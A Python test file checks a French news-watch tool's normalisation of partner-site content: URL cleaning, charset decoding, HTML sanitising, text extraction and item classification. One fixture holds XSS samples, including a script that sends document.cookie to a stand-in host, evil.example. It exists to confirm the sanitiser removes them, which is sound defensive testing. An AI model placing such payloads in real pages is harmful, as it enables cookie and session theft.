"""Normalisation: what a partner site serves becomes a clean URL, text, HTML and kind."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from veille.sources.normalize import (
    canonical_url,
    clean_text,
    decode_bytes,
    html_to_text,
    infer_kind,
    sanitize_html,
    truncate,
)

# --- canonical_url ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "base", "expected"),
    [
        # tracking parameters go, the others stay in their order
        (
            "https://www.afd.fr/fr/appels-a-projets/liste?utm_source=newsletter&status=ongoing"
            "&utm_medium=email&page=2&xtor=EPR-1",
            None,
            "https://www.afd.fr/fr/appels-a-projets/liste?status=ongoing&page=2",
        ),
        (
            "https://www.coordinationsud.org/offre/?fbclid=IwAR0abc&gclid=xyz&mc_cid=1&mc_eid=2",
            None,
            "https://www.coordinationsud.org/offre/",
        ),
        (
            "https://ex.org/a?at_medium=email&at_campaign=x&_hsenc=p2&_hsmi=3&mkt_tok=t&id=7",
            None,
            "https://ex.org/a?id=7",
        ),
        ("https://ex.org/a?UTM_Source=x&b=1", None, "https://ex.org/a?b=1"),
        # blank values and repeated keys are the site's business, kept as written
        ("https://ex.org/?b=2&a=1&b=&a=3", None, "https://ex.org/?b=2&a=1&b=&a=3"),
        (
            "https://ex.org/spip.php?page=backend&id_rubrique=1063",
            None,
            "https://ex.org/spip.php?page=backend&id_rubrique=1063",
        ),
        # fragments
        (
            "https://www.diplomatie.gouv.fr/fr/page#contenu",
            None,
            "https://www.diplomatie.gouv.fr/fr/page",
        ),
        ("https://ex.org/a?x=1#top", None, "https://ex.org/a?x=1"),
        # relative URLs joined with the page they were found on
        (
            "/fr/appels-a-projets/initiatives-osc",
            "https://www.afd.fr/fr/liste?page=1",
            "https://www.afd.fr/fr/appels-a-projets/initiatives-osc",
        ),
        (
            "../emploi/charge-de-mission",
            "https://oc-cooperation.org/actualite/x/",
            "https://oc-cooperation.org/actualite/emploi/charge-de-mission",
        ),
        ("?page=2", "https://ex.org/liste?page=1", "https://ex.org/liste?page=2"),
        ("//cdn.ex.org/a.pdf", "https://ex.org/", "https://cdn.ex.org/a.pdf"),
        ("https://other.org/x", "https://ex.org/", "https://other.org/x"),
        # host and scheme case, default ports, empty path
        ("HTTPS://WWW.PSEAU.ORG/Outils/Ouvrages", None, "https://www.pseau.org/Outils/Ouvrages"),
        ("http://ex.org:80/a", None, "http://ex.org/a"),
        ("https://ex.org:443", None, "https://ex.org/"),
        ("https://ex.org:8443/a", None, "https://ex.org:8443/a"),
        ("  https://ex.org/a  ", None, "https://ex.org/a"),
        # spaces and accents percent-encoded once, existing escapes left alone
        ("https://ex.org/appel à projets", None, "https://ex.org/appel%20%C3%A0%20projets"),
        ("https://ex.org/appel%20%C3%A0", None, "https://ex.org/appel%20%C3%A0"),
        # credentials never end up in a newsletter
        ("https://user:secret@ex.org/a", None, "https://ex.org/a"),
        # not web links
        ("javascript:alert(1)", None, None),
        ("mailto:contact@oc-cooperation.org", None, None),
        ("tel:+33561000000", None, None),
        ("ftp://ex.org/file", None, None),
        ("", None, None),
        ("pas une adresse", None, None),
        ("/relative/sans/base", None, None),
        ("https://", None, None),
        ("https://ex.org:99999/", None, None),
        ("https://ex.org:abc/", None, None),
        ("http://[::1/", None, None),
    ],
)
def test_canonical_url(url: str, base: str | None, expected: str | None) -> None:
    assert canonical_url(url, base) == expected


def test_canonical_url_makes_relays_of_one_page_equal() -> None:
    relayed = [
        "https://www.afd.fr/fr/actualites/x?utm_source=twitter#haut",
        "HTTPS://www.AFD.fr:443/fr/actualites/x?xtor=RSS-2",
        "/fr/actualites/x",
    ]
    assert {canonical_url(u, "https://www.afd.fr/") for u in relayed} == {
        "https://www.afd.fr/fr/actualites/x"
    }


_urls = st.builds(
    "{}://{}{}{}{}{}".format,
    st.sampled_from(["http", "https", "HTTPS", "ftp", "javascript"]),
    st.from_regex(r"[A-Za-zé0-9.\-:@%\[\]]{0,12}", fullmatch=True),
    st.sampled_from(["", ":80", ":443", ":8080", ":", ":x"]),
    st.text(alphabet="/ab%é .?&=#\\", max_size=12),
    st.text(alphabet="?&=utm_ab%+ #x", max_size=20),
    st.text(max_size=5),
)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(), _urls), st.one_of(st.none(), st.text(), _urls))
def test_canonical_url_never_raises_and_is_idempotent(url: str, base: str | None) -> None:
    result = canonical_url(url, base)
    if result is not None:
        assert canonical_url(result) == result


# --- decode_bytes ------------------------------------------------------------------------------

_FRENCH = "Appel à projets : l’œuvre des bénévoles, déjà « clôturé » à Noël"


@pytest.mark.parametrize(
    ("content", "declared", "expected"),
    [
        (_FRENCH.encode("utf-8"), "utf-8", _FRENCH),
        (_FRENCH.encode("utf-8"), None, _FRENCH),
        (_FRENCH.encode("cp1252"), "windows-1252", _FRENCH),
        # declared ISO-8859-1 but really UTF-8: read naively it would show "Ã©"
        (_FRENCH.encode("utf-8"), "ISO-8859-1", _FRENCH),
        (_FRENCH.encode("utf-8"), "us-ascii", _FRENCH),
        # declared UTF-8 but really windows-1252 (é, ’, œ)
        (_FRENCH.encode("cp1252"), "utf-8", _FRENCH),
        (_FRENCH.encode("cp1252"), None, _FRENCH),
        # "ISO-8859-1" pages that use windows-1252 apostrophes, as browsers read them
        ("l’été".encode("cp1252"), "iso-8859-1", "l’été"),
        ("Été".encode("iso-8859-15"), "iso-8859-15", "Été"),
        # byte order marks win over anything declared
        (b"\xef\xbb\xbf" + "déjà".encode(), "iso-8859-1", "déjà"),
        (b"\xff\xfe" + "déjà".encode("utf-16-le"), "utf-8", "déjà"),
        (b"\xfe\xff" + "déjà".encode("utf-16-be"), None, "déjà"),
        # the page's own meta charset is used when the header says nothing right
        (
            '<meta charset="iso-8859-1"><p>Réunion’</p>'.encode("cp1252"),
            None,
            '<meta charset="iso-8859-1"><p>Réunion’</p>',
        ),  # fmt: skip
        # unknown or dangerous labels are ignored
        ("déjà".encode(), "charset-inconnu", "déjà"),
        (b"+AGEAYgBj-", "utf-7", "+AGEAYgBj-"),
        ("déjà".encode(), "rot13", "déjà"),
        # a UTF-16 label on plain ASCII is a wrong label
        (b"<p>hello</p>", "utf-16", "<p>hello</p>"),
        (b"", "utf-8", ""),
    ],
)
def test_decode_bytes(content: bytes, declared: str | None, expected: str) -> None:
    assert decode_bytes(content, declared) == expected


def test_decode_bytes_replaces_what_cannot_be_read() -> None:
    # 0x81 is undefined in windows-1252 and invalid in UTF-8: UTF-8 with a marker
    assert decode_bytes(b"caf\xc3\xa9 \x81", "utf-8") == "café \ufffd"


@settings(max_examples=300, deadline=None)
@given(
    st.binary(),
    st.one_of(
        st.none(),
        st.text(max_size=20),
        st.sampled_from(["utf-8", "latin-1", "utf-16", "utf-32-be", "shift_jis", "base64"]),
    ),
)
def test_decode_bytes_never_raises(content: bytes, declared: str | None) -> None:
    assert isinstance(decode_bytes(content, declared), str)


# --- sanitize_html -----------------------------------------------------------------------------

HOSTILE = """
<div class="entry" style="position:fixed;top:0" onclick="steal()">
  <script>document.location='https://evil.example/?c='+document.cookie</script>
  <style>body { display:none }</style>
  <p onmouseover="alert(1)">Appel à projets <strong>Jeunesse</strong></p>
  <img src="x" onerror="alert('xss')">
  <a href="javascript:alert(1)">Candidater</a>
  <a href="JaVaScRiPt&colon;alert(2)">Encore</a>
  <a href="https://www.afd.fr/fr/appels-a-projets" target="_blank" onclick="x()">AFD</a>
  <iframe src="https://evil.example/frame">cadre</iframe>
  <svg onload="alert(3)"><script>alert(4)</script></svg>
  <form action="https://evil.example"><input name="pw"></form>
  <object data="x.swf"></object><embed src="x.swf">
  <!-- commentaire <script>alert(5)</script> -->
  <table><tr><td colspan="2" onclick="x()">Montant</td></tr></table>
</div>
"""


def test_sanitize_html_removes_everything_hostile() -> None:
    out = sanitize_html(HOSTILE)
    lowered = out.lower()
    for forbidden in (
        "<script", "<style", "<iframe", "<svg", "<img", "<form", "<input", "<object",
        "<embed", "javascript", "onerror", "onclick", "onload", "onmouseover", "style=",
        "alert", "evil.example", "<!--", "cookie", "target=",
    ):  # fmt: skip
        assert forbidden not in lowered, forbidden
    assert "Appel à projets <strong>Jeunesse</strong>" in out
    assert '<a href="https://www.afd.fr/fr/appels-a-projets" rel="noopener noreferrer">AFD</a>' in (
        out
    )
    assert '<td colspan="2">Montant</td>' in out


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>Texte <em>important</em><br>suite</p>", "<p>Texte <em>important</em><br>suite</p>"),
        ('<h2 id="t">Titre</h2><h1>Grand</h1>', "<h2>Titre</h2>Grand"),
        ("<ul><li>Sénégal</li><li>Mali</li></ul>", "<ul><li>Sénégal</li><li>Mali</li></ul>"),
        (
            '<a href="mailto:contact@ex.org">écrire</a>',
            '<a href="mailto:contact@ex.org" rel="noopener noreferrer">écrire</a>',
        ),  # fmt: skip
        (
            '<a href="https://ex.org" rel="opener">x</a>',
            '<a href="https://ex.org" rel="noopener noreferrer">x</a>',
        ),  # fmt: skip
        ("<blockquote>cité</blockquote>", "<blockquote>cité</blockquote>"),
        ("<span>texte</span> <font color=red>rouge</font>", "texte rouge"),
        ("a < b & c", "a &lt; b &amp; c"),
        ("", ""),
    ],
)
def test_sanitize_html_allow_list(html: str, expected: str) -> None:
    assert sanitize_html(html) == expected


_markup = st.lists(
    st.sampled_from(
        [
            "<p>",
            "</p>",
            "<a href='https://x.fr'>",
            "</a>",
            "<b>",
            "</b>",
            "<h2>",
            "</h2>",
            "<table>",
            "<tr>",
            "<td>",
            "<li>",
            "<ul>",
            "<br>",
            "<script>",
            "<style>",
            "<svg>",
            "<iframe>",
            "<!--",
            "-->",
            "<![CDATA[",
            "&amp;",
            "&lt;",
            "<",
            ">",
            "x",
            " ",
            "é",
        ]
    ),  # fmt: skip
    max_size=30,
).map("".join)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(), _markup))
def test_sanitize_html_is_stable(html: str) -> None:
    once = sanitize_html(html)
    assert sanitize_html(once) == once


# --- html_to_text / clean_text ----------------------------------------------------------------

SPIP_SNIPPET = """
<div class="texte surlignable clearfix"><p>Le minist&egrave;re de l&#8217;Europe et des
Affaires &eacute;trang&egrave;res lance l&#8217;appel &agrave; projets&nbsp;:
<strong>&laquo;&nbsp;Jeunesse&nbsp;&raquo;</strong> 2025.</p>
<ul class="spip"><li>Date limite&#8239;: 15&nbsp;mars&nbsp;2025</li>
<li>Montant&nbsp;: 20&#8239;000&nbsp;&euro;</li></ul>
<p>Candidater sur <a href="https://www.cncd.fr" class="spip_out">cncd.fr</a>.<br class="autobr" />
Contact&nbsp;: daect@diplomatie.gouv.fr</p></div>
<script type="text/javascript">var _paq = window._paq || [];</script>
"""

WORDPRESS_SNIPPET = (
    '<div class="entry-content"><p>Offre d&rsquo;emploi&nbsp;: Charg&eacute;&middot;e de '
    "mission</p><!-- wp:paragraph --><p>Poste bas&eacute; &agrave; Toulouse</p>"
    "<table><tr><th>Contrat</th><td>CDD</td><td>12&nbsp;mois</td></tr></table>"
    "<style>.x{color:red}</style><h3>Profil</h3>Bac+5\u200b &amp; anglais\u00ad courant</div>"
)


def test_html_to_text_spip() -> None:
    assert html_to_text(SPIP_SNIPPET) == (
        "Le ministère de l’Europe et des Affaires étrangères lance l’appel à projets : "
        "« Jeunesse » 2025.\n"
        "Date limite : 15 mars 2025\n"
        "Montant : 20 000 €\n"
        "Candidater sur cncd.fr.\n"
        "Contact : daect@diplomatie.gouv.fr"
    )


def test_html_to_text_wordpress() -> None:
    assert html_to_text(WORDPRESS_SNIPPET) == (
        "Offre d’emploi : Chargé·e de mission\n"
        "Poste basé à Toulouse\n"
        "Contrat CDD 12 mois\n"
        "Profil\n"
        "Bac+5 & anglais courant"
    )


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("plain text", "plain text"),
        ("<p>a</p><p>b</p>", "a\nb"),
        ("<div>Sénégal</div><div>Mali</div>", "Sénégal\nMali"),
        ("<td>a</td><td>b</td>", "a b"),
        ("un\u00a0deux\u202ftrois\u2009quatre", "un deux trois quatre"),
        ("tab\tet\x07bip\x0bvt\x00", "tab et bip vt"),
        ("a   \n\n  b", "a b"),
        ("l&apos;&eacute;t&eacute; &amp; &#233;&#x9;", "l'été & é"),
        ("<p>   </p><br><br>", ""),
        ("<!-- seul commentaire -->", ""),
        ("budget < 5000 € et > 100", "budget < 5000 € et > 100"),
        ("<", "<"),
        ("", ""),
    ],
)
def test_html_to_text(html: str, expected: str) -> None:
    assert html_to_text(html) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("  Appel à projets\n   2025 ", "Appel à projets 2025"),
        (
            "Appel &agrave; projets &laquo;&nbsp;Jeunesse&nbsp;&raquo;",
            "Appel à projets « Jeunesse »",
        ),
        ("Appel &amp;agrave; projets", "Appel à projets"),  # escaped twice
        ("&lt;b&gt;Offre&lt;/b&gt; d&amp;#8217;emploi", "Offre d’emploi"),
        ("<strong>Webinaire</strong> : eau", "Webinaire : eau"),
        ("AT&T & co", "AT&T & co"),
        ("", ""),
    ],
)
def test_clean_text(text: str, expected: str) -> None:
    assert clean_text(text) == expected


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(), _markup))
def test_text_functions_never_raise(text: str) -> None:
    assert "\x00" not in html_to_text(text)
    assert "\n" not in clean_text(text)
    infer_kind(None, text, text)
    truncate(text, 20)


# --- truncate ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "limit", "expected"),
    [
        ("court", 600, "court"),
        ("exactement dix", 14, "exactement dix"),
        ("Appel à projets pour la jeunesse", 20, "Appel à projets…"),
        ("Appel à projets, jeunesse", 18, "Appel à projets…"),
        ("Anticonstitutionnellement", 10, "Anticonst…"),
        ("abc def", 1, "…"),
        ("abc def", 0, ""),
    ],
)
def test_truncate(text: str, limit: int, expected: str) -> None:
    assert truncate(text, limit) == expected


@given(st.text(), st.integers(min_value=0, max_value=700))
def test_truncate_respects_the_limit(text: str, limit: int) -> None:
    result = truncate(text, limit)
    assert len(result) <= limit
    if len(text) > limit and limit > 0:
        assert result.endswith("…")


# --- infer_kind -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Appel à projets « Jeunesse » 2025 de la DAECT", "appel"),
        ("AAP Initiatives OSC : ouverture de la session 2025", "appel"),
        ("Appel à manifestation d'intérêt pour la coopération décentralisée", "appel"),
        ("AMI Tandems solidaires 2025-2026", "appel"),
        ("Appel à candidatures – Prix de la coopération internationale", "appel"),
        ("Subvention « 1 % eau » : les agences de l'eau soutiennent vos projets", "appel"),
        ("Offre d'emploi : Chargé·e de mission partenariats (CDD)", "offre"),
        ("France Volontaires recrute un·e volontaire VSI au Sénégal", "offre"),
        ("Stage – Assistant·e communication (6 mois)", "offre"),
        ("Mission de service civique : animation ECM à Montpellier", "offre"),
        ("Responsable administratif et financier – CDI", "offre"),
        ("Webinaire : financer son projet d'eau", "evenement"),
        ("Le Festival des Solidarités revient en novembre", "evenement"),
        ("Agora régionale de la solidarité internationale", "evenement"),
        ("Conférence « Climat et migrations » à Toulouse", "evenement"),
        ("Atelier : monter un dossier de subvention", "evenement"),
        ("Formation « Gestion de projet » le 12 mars 2025", "evenement"),
        ("Rencontre des acteurs de la coopération avec le Burkina Faso", "evenement"),
        ("Rapport annuel 2024 de l'aide publique au développement", "actualite"),
        ("Le ministre reçoit son ami homologue sénégalais", "actualite"),
        ("Formation des bénévoles : un guide en ligne", "actualite"),
    ],
)
def test_infer_kind_from_real_titles(title: str, expected: str) -> None:
    assert infer_kind(None, title) == expected


def test_infer_kind_title_wins_over_body() -> None:
    body = "Un webinaire de présentation aura lieu le 5 mars ; offre de stage associée."
    assert infer_kind(None, "Appel à projets Jeunesse", body) == "appel"


def test_infer_kind_body_decides_when_title_is_silent() -> None:
    assert infer_kind(None, "Chargé·e de communication", "Contrat : CDD de 12 mois") == "offre"
    assert infer_kind("actualite", "Réseau eau", "Inscrivez-vous au webinaire") == "evenement"


def test_infer_kind_default_of_the_source() -> None:
    assert infer_kind("appel", "Initiatives OSC 2025") == "appel"
    assert infer_kind(None, "Initiatives OSC 2025") == "actualite"
    assert infer_kind("inconnu", "Initiatives OSC 2025") == "actualite"
    # a jobs feed is more reliable than an ordinary word: "financements" is not a call here
    assert infer_kind("offre", "Responsable des financements institutionnels") == "offre"
    # but a genre named in the title still wins over the feed's default
    assert infer_kind("offre", "Webinaire : recruter en service civique") == "evenement"
